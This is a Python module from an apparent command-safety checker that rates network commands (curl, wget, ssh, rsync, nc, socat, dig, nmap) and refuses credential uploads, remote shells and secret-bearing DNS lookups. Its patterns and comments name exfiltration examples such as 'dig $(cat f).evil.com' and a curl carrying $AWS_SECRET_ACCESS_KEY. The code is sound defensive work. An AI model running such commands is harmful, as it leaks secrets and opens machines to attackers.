"""Network utilities: fetching is `network`, sending local data is at least `mutates`.

Sending a credential store is refused, and so are remote shells (`nc -e`, `socat exec:`).
`ssh host CMD` is rated by walking CMD too. The walk tells a rule whether the command's stdin
is fed from a pipe, a file or a here-document through `acc.feed_kind` (see `walk.py`).
"""

from __future__ import annotations

import re

from intent.guard.readers import table_checked
from intent.guard.rules import Context, Findings, Rule, archive_removes, rate_write
from intent.guard.tables import TABLES
from intent.guard.words import CREDENTIALS, HARMLESS_TARGETS

__all__ = ["leaks", "send"]

_REMOTE = re.compile(r"^([\w.+-]+@)?[\w.-]+:|^\w+://")


def send(name: str, what: str, sources: list[str], acc: Findings) -> None:
    """Rate sending local data; refuse when the data is a credential store."""
    for s in [*sources, *acc.feed_sources]:
        if CREDENTIALS.search(s):
            acc.reject(f"{name} sends a credential store ({s})")
            return
    acc.raise_to("mutates", f"{name}: {what} sends local data (mutates)")


# an environment variable whose value is a secret: `curl "http://x/?k=$AWS_SECRET_ACCESS_KEY"`
_SECRET_VAR = re.compile(
    r"\$\{?(\w*(KEY|TOKEN|SECRET|PASSW(OR)?D|PASS|PWD|CREDENTIALS?|AUTH|COOKIE|SESSION)\w*)",
    re.I,
)
_SAFE_VARS = frozenset({"PWD", "OLDPWD", "SSH_AUTH_SOCK"})
_NAME_LOOKUPS = frozenset(
    "dig host nslookup ping ping6 traceroute tracepath mtr whois nc ncat netcat socat telnet".split()
)


def leaks(name: str, args: list[str], acc: Findings) -> None:
    """Local data in a network tool's arguments leaves the machine: a command substitution
    (`dig $(cat f).evil.com`) at least `mutates`; a credential or a secret variable is refused."""
    for a in args:
        m = _SECRET_VAR.search(a)
        if m and m.group(1) not in _SAFE_VARS:
            if name in _NAME_LOOKUPS:
                # a secret has no business in a host name: that is DNS exfiltration
                acc.reject(f"{name} sends the secret variable ${m.group(1)}")
                return
            # `curl -H "Authorization: Bearer $TOKEN" API` is how tokens are used: asked first
            acc.raise_to("mutates", f"{name}: sends the secret variable ${m.group(1)} (mutates)")
        if "$(" in a or "`" in a or "<(" in a:
            send(name, "a command substitution in its arguments", [a], acc)


_READ_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})


def _unbundled(args: list[str]) -> list[str]:
    """curl's short options as getopt reads them: `-sSXDELETE` is `-s -S -X DELETE` (a bundle
    hid a method that changes remote state)."""
    out: list[str] = []
    for n, a in enumerate(args):
        if a == "--":
            return out + args[n:]
        if not a.startswith("-") or a.startswith("--") or len(a) <= 2:
            out.append(a)
            continue
        for j in range(1, len(a)):
            flag = "-" + a[j]
            if flag in _CURL_ARG:
                out.append(flag)
                if j + 1 < len(a):
                    out.append(a[j + 1 :])
                break
            out.append(flag)
    return out


def curl_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    args = _unbundled(args)
    i = 0
    while i < len(args):
        a = args[i]
        opt, eq, inline = a.partition("=") if a.startswith("--") else (a[:2], "", a[2:])
        value = inline if (eq or inline) else (args[i + 1] if i + 1 < len(args) else "")
        takes = opt in _CURL_ARG
        i += 1 if (eq or inline or not takes) else 2
        if opt in (
            "-d",
            "--data",
            "--data-ascii",
            "--data-binary",
            "--json",
            "--data-urlencode",
        ) or (opt.startswith("--data") and takes):
            if value.startswith("@") or (opt == "--data-urlencode" and "@" in value):
                send(name, f"{opt} {value}", [value], acc)
            elif "$(" in value or "`" in value or "$" in value:
                send(name, f"{opt} with a substitution", [value], acc)
            elif "-G" not in args and "--get" not in args:
                acc.raise_to("mutates", f"{name} {opt}: sends a POST request (mutates)")
        elif opt in ("-F", "--form"):
            if re.search(r"=[@<]", value) or "$(" in value:
                send(name, f"{opt} {value}", [value], acc)
            acc.raise_to("mutates", f"{name} {opt}: sends a form (mutates)")
        elif opt in ("-w", "--write-out") and "%output{" in value:
            target = value.split("%output{", 1)[1].split("}", 1)[0].lstrip(">")
            rate_write(target, f"{name} {opt} %output", acc, ctx, append=False)
        elif opt in ("-X", "--request") and value.upper() not in _READ_METHODS:
            acc.raise_to("mutates", f"{name} {opt} {value}: changes remote state (mutates)")
        elif opt in ("-H", "--header", "--proxy-header", "-b", "--cookie") and (
            value.startswith("@") or (opt in ("-b", "--cookie") and "=" not in value)
        ):
            send(name, f"{opt} {value}", [value.lstrip("@")], acc)
        elif opt == "--url-query" and ("@" in value or "$" in value):
            send(name, f"{opt} {value}", [value.split("@", 1)[-1]], acc)
        elif opt in ("-K", "--config") and CREDENTIALS.search(" " + value):
            send(name, f"{opt} {value}", [" " + value], acc)
        elif opt in ("-T", "--upload-file"):
            send(name, f"{opt} {value}", [value], acc)
        elif opt in (
            "-o",
            "--output",
            "-D",
            "--dump-header",
            "-c",
            "--cookie-jar",
            "--trace",
            "--trace-ascii",
            "--stderr",
            "--libcurl",
            "--etag-save",
            "--hsts",
            "--alt-svc",
            "--output-dir",
        ):
            if value not in HARMLESS_TARGETS:
                rate_write(value, f"{name} {opt}", acc, ctx, append=False)
        elif opt in ("-O", "--remote-name", "--remote-name-all", "-J"):
            acc.raise_to("mutates", f"{name} {opt}: saves the download (mutates)")
        elif opt in ("-K", "--config"):
            acc.raise_to("mutates", f"{name} {opt}: reads options from a file (mutates)")
        elif opt.startswith("-") and opt not in _CURL_KNOWN and not takes and a != "-":
            if not re.fullmatch(r"-[sSLIivfkg46#ZNqjGR]+", a):
                acc.raise_to("mutates", f"{name} {a}: option not known to be read-only (mutates)")
        elif opt.startswith("-") and opt in _CURL_ARG and opt not in _CURL_KNOWN:
            acc.raise_to("mutates", f"{name} {opt}: option not known to be read-only (mutates)")
    if acc.feed_kind in ("pipe", "file", "text") and any(
        a.endswith("@-") or a == "-" for a in args
    ):
        send(name, "stdin", [], acc)


_CURL_KNOWN = frozenset(
    """-s -S -L -I -i -v -f -k -X -H -u -A -e -b -x -m -w -r -C -G -4 -6 -# -Z -z -j -g -q -N
    -U -E --cert --key --cacert --capath --silent --show-error --location --head --include
    --verbose --fail --fail-with-body --insecure --request --header --user --user-agent
    --referer --cookie --proxy --max-time --connect-timeout --write-out --range --compressed
    --http1.0 --http1.1 --http2 --http3 --retry --retry-delay --retry-max-time --url
    --max-redirs --get --ipv4 --ipv6 --progress-bar --no-progress-meter --resolve --globoff
    --tlsv1.2 --tlsv1.3 --interface --limit-rate --no-buffer --oauth2-bearer --digest --basic
    --noproxy --socks5 --socks5-hostname --proto --proto-redir --path-as-is --doh-url
    --url-query --netrc --netrc-optional --parallel --fail-early --create-dirs -n
    --location-trusted --raw --remote-time --styled-output --no-keepalive --keepalive-time
    --happy-eyeballs-timeout-ms --dns-servers --unix-socket --abstract-unix-socket""".split()
)
_CURL_ARG = frozenset(
    """-d -F -T -o -D -c -K -H -u -A -e -b -x -m -w -r -C -X -U -E -z --data --data-ascii
    --data-binary --data-raw --data-urlencode --json --form --form-string --upload-file
    --output --dump-header --cookie-jar --config --header --user --user-agent --referer
    --cookie --proxy --max-time --connect-timeout --write-out --range --request --url
    --max-redirs --retry --retry-delay --retry-max-time --resolve --interface --limit-rate
    --oauth2-bearer --noproxy --socks5 --socks5-hostname --proto --proto-redir --doh-url
    --url-query --trace --trace-ascii --stderr --libcurl --etag-save --hsts --alt-svc
    --output-dir --cert --key --cacert --capath --dns-servers --unix-socket
    --abstract-unix-socket --keepalive-time --happy-eyeballs-timeout-ms""".split()
)


def wget_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    out: str | None = None
    spider = False
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        opt, _, val = a.partition("=")
        if opt.startswith(("--post-f", "--body-f")):
            send(name, opt, [val or nxt], acc)
        elif opt.startswith(("--post-d", "--body-d")) and "$" in (val or nxt):
            send(name, f"{opt} with a substitution", [val or nxt], acc)
        elif opt in ("-O", "--output-document") or re.fullmatch(r"-\w*O", a):
            out = val or nxt
        elif a.startswith("-O") or (re.fullmatch(r"-q?O.+", a)):
            out = a.split("O", 1)[1]
        elif opt in ("-e", "--execute", "--config", "--use-askpass") or opt.startswith("-e"):
            acc.raise_to("mutates", f"{name} {opt}: runs wgetrc commands or a program (mutates)")
        elif opt == "--spider":
            spider = True
        elif opt in ("-o", "--output-file", "-a", "--append-output"):
            rate_write(val or nxt, f"{name} {opt}", acc, ctx, append=True)
        elif opt in ("-i", "--input-file") or re.fullmatch(r"-\w*i", a):
            send(name, f"{opt}: requests the URLs (local data) in", [val or nxt], acc)
        elif opt == "--method" and (val or nxt).upper() not in _READ_METHODS:
            acc.raise_to("mutates", f"{name} --method {val or nxt}: changes remote state (mutates)")
        elif opt.startswith(("--post-d", "--body-d")):
            acc.raise_to("mutates", f"{name} {opt}: sends a POST request (mutates)")
        elif opt in ("--save-cookies", "--load-cookies", "--header") and (val or nxt).startswith(
            ("@", "/", "~", ".")
        ):
            if opt == "--save-cookies":
                rate_write(val or nxt, f"{name} {opt}", acc, ctx, append=False)
            else:
                send(name, opt, [val or nxt], acc)
        elif opt in ("--save-cookies", "--save-headers", "--warc-file", "--rejected-log"):
            acc.raise_to("mutates", f"{name} {opt}: writes a file (mutates)")
    if out is None and not spider:
        acc.raise_to("mutates", f"{name}: saves the download (mutates)")
    elif out is not None and out not in HARMLESS_TARGETS:
        rate_write(out, f"{name} -O", acc, ctx, append=False)


def copy_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    """scp, rsync, sftp: uploads when a local source goes to a remote destination."""
    acc.raise_to("network", f"{name}: copies over the network")
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if a in ("-e", "--rsh", "-S") or a.startswith(("--rsh=", "--rsync-path")):
            cmd = a.split("=", 1)[1] if "=" in a else nxt
            acc.script(cmd, ctx, depth + 1)
            acc.raise_to("mutates", f"{name} {a.split('=')[0]}: runs {cmd!r} (mutates)")
        if a.startswith("-o") and re.search(r"(?i)(proxy|local)command", a + nxt):
            ssh_rule("ssh", [a, nxt], acc, ctx, depth)
        if a.startswith("--delete") or a == "--remove-source-files":
            acc.raise_to("destructive", f"{name} {a}: removes files (destructive)")
        if a.startswith("--remove-source"):
            sources = [o for o in args if not o.startswith("-")][:-1]
            archive_removes(name, [o for o in sources if not _REMOTE.match(o)], acc, ctx)
    ops = [a for a in args if not a.startswith("-")]
    if len(ops) >= 2 and _REMOTE.match(ops[-1]):
        local = [o for o in ops[:-1] if not _REMOTE.match(o)]
        if local:
            send(name, f"copying {local[0]} to {ops[-1]}", local, acc)
    acc.raise_to("mutates", f"{name}: writes files (mutates)")


_SSH_ARG = set("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B".split())


def ssh_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    i, host = 0, ""
    while i < len(args):
        a = args[i]
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if a.startswith("-o") or a == "-o":
            opt = a[2:] or nxt
            parts = re.split(r"[=\s]+", opt, maxsplit=1)
            key, value = parts[0], parts[1] if len(parts) > 1 else ""
            if key.lower() in (
                "proxycommand",
                "localcommand",
                "knownhostscommand",
                "remotecommand",
            ):
                acc.script(value, ctx, depth + 1)
                acc.raise_to("mutates", f"ssh -o {key}: runs a command (mutates)")
            elif key.lower() in ("pkcs11provider", "securitykeyprovider", "include", "match"):
                acc.raise_to("mutates", f"ssh -o {key}: loads a library or a config (mutates)")
        elif a == "-I" or (a.startswith("-I") and len(a) > 2):
            acc.raise_to("mutates", f"ssh {a}: loads a PKCS#11 library (mutates)")
        elif a in ("-F", "-E") and nxt != "/dev/null":
            acc.raise_to("mutates", f"ssh {a} {nxt}: reads a config or writes a log (mutates)")
        if a.startswith("-"):
            i += 2 if (a in _SSH_ARG) else 1
            continue
        host = a
        break
    remote = args[i + 1 :] if host else []
    if remote:
        acc.script(" ".join(remote), ctx, depth + 1)
    if acc.feed_kind in ("pipe", "file", "text"):
        send(name, "stdin", [], acc)


def nc_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    for a in args:
        if (
            a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
            or re.fullmatch(r"-\w*[ec]\S*", a)
            or a.startswith(("--exec=", "--sh-exec="))
        ):
            acc.reject(f"{name} {a}: runs a shell for the remote end (remote shell)")
            return
        if name == "socat" and re.match(r"(?i)(exec|system):", a.split(",")[0]):
            acc.reject(f"socat {a}: runs a program for the remote end (remote shell)")
            return
        if name == "socat" and re.match(r"(?i)(file|open|create|gopen|pty):", a):
            send(name, a, [a], acc)
        if a in ("-o", "--output") or a.startswith("-o"):
            acc.raise_to("mutates", f"{name} {a}: writes a file (mutates)")
    if acc.feed_kind in ("pipe", "file", "text"):
        send(name, "stdin", [], acc)


_HTTPIE_WRITE_METHODS = frozenset({"POST", "PUT", "DELETE", "PATCH"})


def httpie_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    positional = [a for a in args if not a.startswith("-")]
    if positional and positional[0].upper() in _HTTPIE_WRITE_METHODS:
        acc.raise_to("mutates", f"{name} {positional[0]}: changes remote state (mutates)")
    for item in positional[1:]:
        # `a=b` and `a:=b` are body fields: httpie sends them with POST
        if re.match(r"^[^=:/]+(=|:=)(?!=)", item) and not re.match(r"^[^=]+==", item):
            acc.raise_to("mutates", f"{name} {item}: sends a request body (mutates)")
            break
    for a in args:
        if a.startswith("--session") and not a.startswith("--session-read-only"):
            acc.raise_to("mutates", f"{name} {a}: writes a session file (mutates)")
        if re.match(r"^[^=:/]*(=|:=)?@", a) and not a.startswith("-"):
            send(name, a, [a], acc)
        if a in ("-d", "--download", "-o", "--output") or a.startswith("--output="):
            acc.raise_to("mutates", f"{name} {a}: saves the download (mutates)")
    if acc.feed_kind in ("pipe", "file", "text"):
        send(name, "stdin", [], acc)


def plain_network(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    if name in ("aria2c", "axel"):
        for i, a in enumerate(args):
            if a.startswith("--on-") or a.startswith("--rpc"):
                hook = (
                    a.split("=", 1)[1] if "=" in a else (args[i + 1] if i + 1 < len(args) else "")
                )
                acc.script(hook, ctx, depth + 1)
                acc.raise_to("mutates", f"{name} {a.split('=')[0]}: runs a program (mutates)")
            if a in ("-i", "--input-file") or a.startswith("--input-file="):
                src = a.split("=", 1)[1] if "=" in a else (args[i + 1] if i + 1 < len(args) else "")
                send(name, a, [src], acc)
        acc.raise_to("mutates", f"{name}: saves the download (mutates)")
    if acc.feed_kind in ("pipe", "file", "text") and name in (
        "telnet",
        "openssl",
        "ftp",
        "lftp",
        "sftp",
    ):
        send(name, "stdin", [], acc)
    if name in ("sftp", "ftp", "lftp", "ssh-copy-id"):
        acc.raise_to("mutates", f"{name}: can upload files (mutates)")


def dns_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    """dig, host, nslookup: names read from a file or stdin leave as DNS queries."""
    acc.raise_to("network", f"{name}: uses the network")
    if name in TABLES:
        table_checked(name, [a for a in args if not a.startswith(("-f", "+"))], acc, ctx, depth)
    for i, a in enumerate(args):
        if a == "-f" or (a.startswith("-f") and name == "dig"):
            src = a[2:] or (args[i + 1] if i + 1 < len(args) else "")
            send(name, f"-f {src}: queries names read from a file", [src], acc)
    if acc.feed_kind in ("pipe", "file", "text") and name in ("nslookup", "dig"):
        send(name, "stdin", [], acc)


_NMAP_LOADS = ("--script", "--datadir", "--servicedb", "--versiondb", "--resume", "-iL")


def nmap_rule(name: str, args: list[str], acc: Findings, ctx: Context, depth: int) -> None:
    acc.raise_to("network", f"{name}: uses the network")
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if re.fullmatch(r"-o[NXGASM]", a) or re.match(r"-o[NXGASM].", a):
            target = a[3:] or nxt
            if target not in HARMLESS_TARGETS:
                rate_write(target, f"{name} {a[:3]}", acc, ctx, append=False)
        elif a.startswith(_NMAP_LOADS) and not a.startswith("--script-help"):
            if a.startswith("-iL"):
                send(name, "-iL: scans the hosts named in", [a[3:] or nxt], acc)
            acc.raise_to("mutates", f"{name} {a.split('=')[0]}: loads scripts or data (mutates)")
        elif a in ("--append-output", "--stylesheet", "--webxml"):
            acc.raise_to("mutates", f"{name} {a}: writes or loads a file (mutates)")


HANDLERS: dict[str, Rule] = {
    "curl": curl_rule,
    "dig": dns_rule,
    "host": dns_rule,
    "nslookup": dns_rule,
    "nmap": nmap_rule,
    "wget": wget_rule,
    "scp": copy_rule,
    "rsync": copy_rule,
    "ssh": ssh_rule,
    "nc": nc_rule,
    "ncat": nc_rule,
    "netcat": nc_rule,
    "socat": nc_rule,
    "http": httpie_rule,
    "https": httpie_rule,
    "xh": httpie_rule,
    **{n: plain_network for n in "telnet sftp ftp lftp ssh-copy-id aria2c axel mosh".split()},
}
